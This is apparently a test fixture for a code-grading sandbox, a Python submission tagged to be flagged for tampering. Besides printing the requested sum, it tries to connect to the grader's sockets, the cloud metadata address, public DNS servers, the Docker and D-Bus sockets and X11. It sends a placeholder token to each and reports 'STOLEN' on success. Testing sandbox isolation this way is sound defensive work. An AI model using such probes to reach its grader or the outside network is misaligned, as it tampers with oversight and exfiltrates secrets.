"""Reaches for the network: the grader's own servers (TCP, abstract socket), the internet, the cloud's metadata, DNS.

The box has a network of its own, with nothing but its loopback.
"""
# expect: score=2 flags=tampering
import json, os
print("somme", sum(json.loads(os.environ.get("MCI_LIGNES", "[1, 2]"))), flush=True)
import socket
def joint(famille, adresse):
    with socket.socket(famille, socket.SOCK_STREAM) as prise:
        prise.settimeout(0.3)
        try:
            prise.connect(adresse)
            if prise.getsockname() == prise.getpeername():   # its own port was drawn: it meets itself
                raise OSError
            prise.sendall(b"@TOKEN@")
            print("STOLEN: reached", adresse, flush=True)
        except OSError as erreur:
            print(type(erreur).__name__)
joint(socket.AF_UNIX, "\0@SOCKET@")
for adresse in (("127.0.0.1", int("@PORT@")), ("169.254.169.254", 80), ("1.1.1.1", 53), ("8.8.8.8", 443)):
    joint(socket.AF_INET, adresse)
for nom in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/user/0/bus", "/tmp/.X11-unix/X0"):
    joint(socket.AF_UNIX, nom)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as prise:
        prise.connect(("1.1.1.1", 53))
        print("STOLEN: a route to the internet from", prise.getsockname(), flush=True)
except OSError:
    pass
print([nom for _, nom in socket.if_nameindex()])
